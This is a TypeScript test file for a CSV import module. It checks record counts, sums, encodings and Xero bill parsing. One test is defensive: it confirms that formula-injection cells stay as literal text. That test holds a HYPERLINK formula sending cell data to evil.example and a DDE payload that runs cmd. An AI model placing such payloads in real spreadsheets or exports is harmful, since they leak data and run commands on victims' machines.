import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { type Decimal, decimal, decimalText } from "../../../src/core/quantity.ts";
import { readCsv } from "../../../src/modules/reading/csv/csv.ts";
import type { ParsedDocument, ParseOutcome } from "../../../src/modules/reading/parsed-document.ts";
import { sampleItems, samplePath } from "../../support/sample-manifest.ts";

interface Expected {
  readonly records: number;
  readonly sum?: number;
  readonly outflow_records?: number;
  readonly sum_outflow?: number;
  readonly currency?: string | null;
  readonly encoding?: string;
  readonly delimiter?: string;
}

interface Item {
  readonly file: string;
  readonly format: string;
  readonly expected: Expected;
}

function csvItems(): Item[] {
  return sampleItems<Item>().filter(({ file }) => file.endsWith(".csv"));
}

function documentOf(outcome: ParseOutcome): ParsedDocument {
  if (outcome.kind === "rejected") throw new Error(outcome.error.detail);
  if (outcome.kind === "asks") throw new Error(outcome.question.code);
  return outcome.document;
}

function sum(amounts: readonly Decimal[]): number {
  return Number(decimalText(amounts.reduce((total, amount) => total.plus(amount), decimal(0))));
}

/** The label iso-8859-1 names the encoding windows-1252 (WHATWG Encoding Standard, 4.2). */
function encodingName(label: string): string {
  return label === "iso-8859-1" ? "windows-1252" : label;
}

describe("sample CSV files", () => {
  it.each(csvItems())("$file gives exactly the records and sums of the manifest", ({ file, format, expected }) => {
    const document = documentOf(readCsv(readFileSync(samplePath(file))));
    const amounts = document.lines.map((line) => decimal(line.amount ?? "0"));
    expect(document.row_errors).toEqual([]);
    expect(document.lines).toHaveLength(expected.records);
    expect(document.format).toMatch(new RegExp(`^${format}`));
    if (expected.sum !== undefined) expect(sum(amounts)).toBe(expected.sum);
    if (expected.encoding !== undefined) expect(document.encoding).toBe(encodingName(expected.encoding));
    if (expected.delimiter !== undefined) expect(document.delimiter).toBe(expected.delimiter);
    const stated = expected.currency?.includes("not stated") === true ? null : expected.currency;
    if (stated !== undefined) expect(document.currency).toBe(stated);
    if (expected.outflow_records !== undefined) {
      const outflows = amounts.filter((amount) => amount.gt(0));
      expect(outflows).toHaveLength(expected.outflow_records);
      expect(sum(outflows)).toBe(-(expected.sum_outflow ?? 0));
    }
  });

  it("formulas in text cells stay the text that was written", () => {
    const { lines } = documentOf(readCsv(readFileSync(samplePath("bad-formula-injection.csv"))));
    expect(lines.map((line) => line.supplier?.name)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1;"klik")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3",
    ]);
    expect(lines[1]?.description).toBe("+45 12345678");
  });

  it("Xero's day-first dates and its quantity times unit amount are read", () => {
    const { lines } = documentOf(readCsv(readFileSync(samplePath("xero-bills-export.csv"))));
    expect(lines[1]).toMatchObject({
      kind: "bill_row",
      description: "Copy paper A4, 5 reams",
      quantity: "12",
      amount: "2279.4",
      transaction_date: "2026-02-05",
      gl_account: "461",
      invoice_number: "PG-77",
      tax_treatment: "excl_vat",
    });
  });
});
